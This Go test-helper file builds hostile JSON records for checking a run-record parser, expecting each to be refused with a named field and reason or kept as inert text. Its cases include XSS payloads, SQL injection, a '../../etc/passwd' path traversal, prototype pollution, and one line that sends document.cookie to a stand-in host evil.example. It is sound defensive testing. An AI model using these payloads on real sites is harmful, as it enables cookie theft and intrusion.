package runtest

import (
	"bytes"
	"encoding/json"
	"strings"

	"github.com/pcloralab/pcloralab/pclora/run"
)

// A Case is JSON from outside that is meant to be a record.
type Case struct {
	Name string
	JSON []byte
	// Field is the path that a run.RecordError has, and Reason a part of what it says.
	Field, Reason string
	// Text says that it is sound instead: it is text, and comes out as it went in.
	Text bool
}

// Hostile lists what a reader of records must refuse, or keep as the text it is.
func Hostile() []Case {
	var all []Case
	raw := func(name, text, field, reason string) {
		all = append(all, Case{Name: name, JSON: []byte(text), Field: field, Reason: reason})
	}
	changed := func(name, path, value, field, reason string) {
		raw(name, string(With(path, value)), field, reason)
	}
	text := func(name, path, value string) {
		quoted, _ := json.Marshal(value)
		all = append(all, Case{Name: name, JSON: With(path, string(quoted)), Text: true})
	}

	raw("nothing", "", "", "no JSON object")
	raw("a list", "[]", "", "no JSON object")
	raw("null", "null", "", "no JSON object")
	raw("a page", "<!doctype html><script>alert(1)</script>", "", "no JSON object")
	raw("cut off", string(With("title", `"x"`)[:700]), "", "no JSON object")
	raw("two records", `{"version":1}{"version":1}`, "", "no JSON object")
	raw("bytes that are no text", "{\"version\":1,\"title\":\"\xff\xfe\"}", "", "UTF-8")
	raw("lists in lists", strings.Repeat("[", 5000)+strings.Repeat("]", 5000), "", "nested")
	raw("objects without an end", strings.Repeat(`{"a":`, 20_000), "", "nested")
	raw("a megabyte", `{"version":1,"title":"`+strings.Repeat("x", 1<<20)+`"}`, "", "bytes")
	raw("an empty object", "{}", "version", "missing")
	changed("a newer version", "version", "2", "version", "reload")
	changed("a newer version with another layout", "config", `"v2"`, "config", "no object")
	changed("a version like none", "version", `"1; DROP TABLE runs"`, "version", "no number")
	changed("a huge version", "version", "1"+strings.Repeat("0", 300), "version", "reload")

	changed("no state", "state", `""`, "state", "finished")
	changed("a state of its own", "state", `"<img src=x onerror=alert(1)>"`, "state", "no state")
	changed("finished too early", "steps", "10", "steps", "finished")
	changed("steps below nothing", "steps", "-1", "steps", "-1")
	changed("steps without end", "config.steps", "9007199254740993", "config.steps", "choose")
	changed("half a step", "steps", "1.5", "steps", "cannot be")
	changed("a number past all", "result.seconds", "1e999", "result.seconds", "cannot be")
	changed("a number that is none", "points", `[{"step":1,"lambda":NaN,"task":0,"distil":0}]`, "", "no JSON object")
	changed("a long title", "title", `"`+strings.Repeat("ü", run.MaxTitle+1)+`"`, "title", "121")
	changed("a long note", "note", `"`+strings.Repeat("x", run.MaxNote+1)+`"`, "note", "2001")
	changed("a title of two lines", "title", `"one\nX-Header: two"`, "title", "U+000A")
	changed("a terminal's escapes", "note", `"\u001b[2J"`, "note", "U+001B")
	changed("text that runs backwards", "title", `"gnp.\u202eexe"`, "title", "U+202E")
	changed("a null byte in a class", "data.classes", `["a\u0000b","c","d"]`, "data.classes[0]", "U+0000")
	changed("another kind of field", "title", `{"toString":"x"}`, "title", "cannot be")
	changed("null for settings", "config", "null", "config", "no object")
	changed("an unknown decay", "config.decay", `"'; DROP TABLE runs; --"`, "config.decay", "have linear")
	changed("a path for a model", "config.model", `"../../etc/passwd"`, "config.model", "a to z")
	changed("an adapter of its own", "config.adapter.kind", `"`+strings.Repeat("lora", 5000)+`"`, "config.kind", "no adapter")
	changed("a model's name as HTML", "model.name", `"<script>"`, "model.name", "a to z")
	changed("a short hash", "model.sha256", `"abc"`, "model.sha256", "64")
	changed("a hash with other signs", "data.sha256", `"`+strings.Repeat("g", 64)+`"`, "data.sha256", "64")
	changed("a revision that leads elsewhere", "model.revision", `"javascript:alert(1)"`, "model.revision", "letters")
	changed("a digest of another kind", "digest", `"0123"`, "digest", "32")
	changed("a kernel set with quotes", "engine.kernels", `"\" onmouseover=alert(1) x=\""`, "engine.kernels", "letters")
	changed("no replicas", "engine.replicas", "0", "engine.replicas", "between")
	changed("many classes", "data.classes", "["+strings.Repeat(`"c",`, 256)+`"c"]`, "data.classes", "256")
	changed("four parts", "data.parts", "[1,2,3,4]", "data.parts", "3")
	changed("fewer than no examples", "data.parts", "[1,2,-3]", "data.parts[2]", "-3")
	changed("many points", "points", "["+strings.Repeat("{},", 400)+"{}]", "points", "400")
	changed("points back in time", "points", `[{"step":2},{"step":1}]`, "points[1].step", "more than 2")
	changed("points after the end", "points", `[{"step":601}]`, "points[0].step", "at most 600")
	changed("more weight than all", "points", `[{"step":1,"lambda":1.5}]`, "points[0].lambda", "1.5")
	changed("more right than there are", "curve", `[{"step":0,"lambda":1,"correct":11,"total":10}]`, "curve[0].correct", "11 of 10")
	changed("an evaluation twice", "curve", `[{"step":0,"total":1},{"step":0,"total":1}]`, "curve[1].step", "more than 0")
	changed("many layers", "layers", "["+strings.Repeat("{},", 1024)+"{}]", "layers", "1024")
	changed("a layer of no size", "layers", `[{"path":"a","in":0,"out":96,"rank":4}]`, "layers[0]", "inputs")
	changed("one layer twice", "layers", `[{"path":"a","in":9,"out":9,"rank":4},{"path":"a","in":9,"out":9,"rank":4}]`, "layers[1].path", "another")
	changed("a layer with a handler", "layers", `[{"path":"a onclick=alert(1)","in":9,"out":9,"rank":4}]`, "layers[0].path", "letters")
	changed("many examples", "examples", "["+strings.Repeat("{},", 12)+"{}]", "examples", "12")
	changed("a picture larger than its pixels", "examples", `[{"index":1,"width":64,"height":64,"pixels":"AAAA"}]`, "examples[0].pixels", "3 bytes")
	changed("a picture as large as the world", "examples", `[{"index":1,"width":4294967296,"height":4294967296,"pixels":""}]`, "examples[0].width", "at most 64")
	changed("pixels that are no base64", "examples", `[{"index":1,"width":1,"height":1,"pixels":"data:image/svg+xml,<svg onload=alert(1)>"}]`, "examples[0].pixels", "cannot be")
	changed("an example of no class", "examples", `[{"index":1,"label":3}]`, "examples[0].label", "3 of 3")
	changed("an opinion of no class", "examples", `[{"index":1,"teacher":{"class":-1}}]`, "examples[0].teacher.class", "-1 of 3")
	changed("more than certain", "examples", `[{"index":1,"student":{"confidence":2}}]`, "examples[0].student.confidence", "2")
	changed("an example of another test", "examples", `[{"index":10000}]`, "examples[0].index", "10000")
	changed("a text among pictures", "examples", `[{"index":1,"text":"<svg onload=alert(1)>"}]`, "examples[0]", "pictures")
	changed("more replicas than before", "changes", `[{"step":1,"replicas":3,"reason":""}]`, "changes[0].replicas", "3")
	changed("a reason with a control", "changes", `[{"step":1,"replicas":1,"reason":"\u0007"}]`, "changes[0].reason", "U+0007")
	changed("weights past counting", "result.after.params", "9223372036854775808", "result.after.params", "cannot be")
	changed("bytes below nothing", "result.after.bytes", "-1", "result.after.bytes", "-1")
	changed("integers of 3 bits", "result.after.bits", "3", "result.after.bits", "4 or 8")
	changed("a result of nothing", "result", "{}", "result.before.total", "measured")
	changed("a result of a run that was stopped", "state", `"stopped"`, "result", "not finished")
	changed("a long name of a field", strings.Repeat("n", 65), "1", "", "longer than 64")
	raw("a field twice", strings.Replace(string(With("title", `"a"`)), `{"changes"`, `{"title":"b","changes"`, 1), "", "twice")
	raw("a nested field twice", strings.Replace(string(With("title", `"a"`)), `"engine":{`, `"engine":{"build":"x",`, 1), "engine", "twice")

	text("a script for a title", "title", "<script>alert(document.domain)</script>")
	text("a handler in a note", "note", "\"><img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">\n</textarea></title>")
	text("a template in a title", "title", "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %>")
	text("SQL in a title", "title", "Robert'); DROP TABLE runs;--")
	text("an address with a program", "model.title", "javascript:alert(1)")
	text("the end of a script in a data set", "data.title", "</script><svg/onload=alert(1)>")
	text("a comment and CDATA in a browser", "engine.browser", "<!--<![CDATA[ \u0026lt; ]]>")
	text("characters of many bytes", "title", strings.Repeat("😀", run.MaxTitle))
	all = append(all, Case{Name: "a prototype", JSON: With("__proto__", `{"isAdmin":true}`), Text: true},
		Case{Name: "a name in other letters", JSON: With("Title", `"<b>not the title</b>"`), Text: true})
	return all
}

// With is a small sound record as JSON, with the field at a path changed or added:
// "config.steps" is a field of the object config. Names are sorted.
func With(path, value string) []byte {
	b, err := Finished(2, 2, 1).JSON()
	if err == nil {
		b, err = with(b, strings.Split(path, "."), value)
	}
	if err != nil {
		panic("runtest: " + err.Error()) // the sample is sound
	}
	return b
}

func with(b []byte, path []string, value string) ([]byte, error) {
	var object map[string]json.RawMessage
	if err := json.Unmarshal(b, &object); err != nil {
		return nil, err
	}
	inner := []byte(value)
	if len(path) > 1 {
		var err error
		if inner, err = with(object[path[0]], path[1:], value); err != nil {
			return nil, err
		}
	}
	mark := []byte(`"the value, which may be no JSON"`)
	object[path[0]] = mark
	out, err := json.Marshal(object)
	return bytes.Replace(out, mark, inner, 1), err
}
